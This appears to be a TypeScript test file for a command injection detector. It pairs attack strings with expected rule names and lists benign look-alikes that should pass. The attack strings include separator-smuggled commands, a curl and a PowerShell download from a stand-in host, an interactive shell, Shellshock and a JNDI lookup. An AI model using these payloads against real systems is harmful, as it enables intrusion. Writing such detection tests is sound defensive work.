import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { rulesFor } from './helpers';

const ATTACKS: Array<[string, string]> = [
  ['x; cat /etc/hosts', 'command_injection.separator'],
  ['8.8.8.8 | id', 'command_injection.separator'],
  ['a && whoami', 'command_injection.separator'],
  ['a || curl http://e.example/x', 'command_injection.separator'],
  ['127.0.0.1%0aid', 'command_injection.separator'],
  ['x;/bin/sh -i', 'command_injection.binary_path'],
  ["x; c'a't /etc/hosts", 'command_injection.separator'],
  ['x;cat${IFS}/etc/hosts', 'command_injection.separator'],
  ['& ping -n 5 127.0.0.1', 'command_injection.separator'],
  ['$(uname -a)', 'command_injection.substitution'],
  ['`id`', 'command_injection.substitution'],
  ['() { :;}; echo vulnerable', 'command_injection.shellshock'],
  ['ls -la', 'command_injection.leading_command'],
  ['nohup sh -c id', 'command_injection.leading_command'],
  ['& type C:\\boot.ini', 'command_injection.separator'],
  ['| powershell -nop', 'command_injection.separator'],
  ["for /f %i in ('dir') do echo %i", 'command_injection.batch'],
  ['if not exist x.txt echo y', 'command_injection.batch'],
  ['Invoke-WebRequest http://e.example/a.ps1', 'command_injection.powershell'],
  ['${jndi:ldap://e.example/a}', 'command_injection.jndi_lookup'],
];

const BENIGN: string[] = [
  'Tom & Jerry',
  'salt & pepper; cats and dogs',
  'rock | paper | scissors',
  'Cat videos',
  'id',
  'echo chamber',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
  'Mozilla/5.0 (Linux; Android 14; SH-01) Mobile',
  'R&D; sales',
  'price: $(9.99)',
  'see https://example.com/a?b=1&c=2',
  'I need sleep; more coffee',
  'if you can, call me',
  'for you and me',
];

describe('command injection detector', () => {
  for (const [value, rule] of ATTACKS) {
    it(`reports ${rule} for ${JSON.stringify(value)}`, () => {
      assert.deepEqual(rulesFor(value, 'command_injection'), [rule]);
    });
  }

  for (const value of BENIGN) {
    it(`leaves ${JSON.stringify(value)} alone`, () => {
      assert.deepEqual(rulesFor(value, 'command_injection'), []);
    });
  }
});
